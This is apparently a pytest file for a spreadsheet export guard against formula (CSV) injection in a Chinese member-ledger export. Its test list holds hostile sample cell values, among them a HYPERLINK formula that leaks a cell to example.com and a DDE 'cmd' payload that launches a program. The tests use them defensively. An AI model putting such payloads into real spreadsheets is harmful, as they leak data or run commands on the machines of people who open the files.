"""Exports never carry live formulas (the formula guard, OWASP "CSV Injection"), and what
an export writes an import reads back unchanged."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date

import pytest
from openpyxl import load_workbook

from shared.spreadsheets.cells import neutralise, restore
from shared.spreadsheets.reader import SheetLimits, read_rows
from shared.spreadsheets.writer import DATE_FORMAT, SheetColumn, Value, csv_text, xlsx_bytes

ATTACKS = [
    "=2+5",
    '=HYPERLINK("http://example.com/?leak="&A1,"点我")',
    "=cmd|' /C calc'!A0",
    "+2+5",
    "-2+5",
    "@SUM(1+1)",
    "\t=2+5",
    "\r=2+5",
    "-",
    "+86 138 0000 0001",  # not a plain number: Excel would try it as a formula
]
HARMLESS = ["张三", "幸福路1号", "'quoted", "'", "a=b", "-5", "+8613800000001", "-0.5", "1e5", ""]
GUARDED_BEHIND_QUOTES = ["'=2+5", "''=2+5", "'-x", "="]
TRICKY = [*GUARDED_BEHIND_QUOTES, "'''", "'-5", "'"]


@pytest.mark.parametrize("value", ATTACKS)
def test_values_a_spreadsheet_would_run_get_a_quote(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", HARMLESS)
def test_plain_text_and_plain_numbers_are_left_alone(value: str) -> None:
    assert neutralise(value) == value
    assert restore(value) == value


@pytest.mark.parametrize("value", ATTACKS + HARMLESS + TRICKY)
def test_restore_undoes_neutralise_exactly(value: str) -> None:
    assert restore(neutralise(value)) == value


@pytest.mark.parametrize("value", ATTACKS + GUARDED_BEHIND_QUOTES)
def test_whatever_quotes_it_starts_with_a_formula_is_quoted_once_more(value: str) -> None:
    assert neutralise(value) == "'" + value


COLUMNS = [SheetColumn("姓名", 10), SheetColumn("入党日期", 12, DATE_FORMAT), SheetColumn("n", 4)]


def test_xlsx_export_has_no_formula_and_every_text_cell_is_a_string() -> None:
    rows: list[list[Value]] = [[v, date(2005, 7, 1), 3] for v in ATTACKS + HARMLESS + TRICKY]
    content = xlsx_bytes("党员台账", COLUMNS, rows)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml and "<f " not in sheet_xml
    sheet = load_workbook(io.BytesIO(content))["党员台账"]
    cells = list(sheet.iter_rows(min_row=2))
    for (name, joined, number), value in zip(cells, ATTACKS + HARMLESS + TRICKY, strict=True):
        if value:  # XML reads a carriage return back as a line feed
            assert name.data_type == "s"
            assert name.value == neutralise(value).replace("\r", "\n")
        assert joined.is_date and number.value == 3


def test_an_exported_sheet_reads_back_as_written() -> None:
    values = ATTACKS + HARMLESS + TRICKY
    content = xlsx_bytes("党员台账", COLUMNS, [[v, None, None] for v in values])
    rows = read_rows(content, "a.xlsx", SheetLimits(max_rows=100), sheet_name="党员台账")
    read = {number: cells[0] for number, cells in rows}
    expected = {n: v.replace("\r", "\n") for n, v in enumerate(values, start=2) if v.strip()}
    # The reader leaves blank rows out; XML reads a carriage return back as a line feed.
    assert {n: read[n] for n in expected} == expected


def test_characters_an_xlsx_cannot_hold_are_dropped_not_a_crash() -> None:
    content = xlsx_bytes("s", COLUMNS[:1], [["张\x07三\x1b"]])
    assert load_workbook(io.BytesIO(content)).active["A2"].value == "张三"


def test_csv_quotes_every_field_and_guards_text() -> None:
    text = csv_text(["姓名", "入党日期", "n"], [["=2+5", date(2005, 7, 1), -5], ['a"b', None, 1]])
    lines = text.splitlines()
    assert lines[1] == '"\'=2+5","2005-07-01","-5"'
    assert lines[2] == '"a""b","","1"'
    records = list(csv.reader(io.StringIO(text)))
    rows = read_rows(text.encode("utf-8-sig"), "a.csv", SheetLimits(max_rows=10))
    assert [cells for _, cells in rows] == [records[0], ["=2+5", "2005-07-01", "-5"], records[2]]
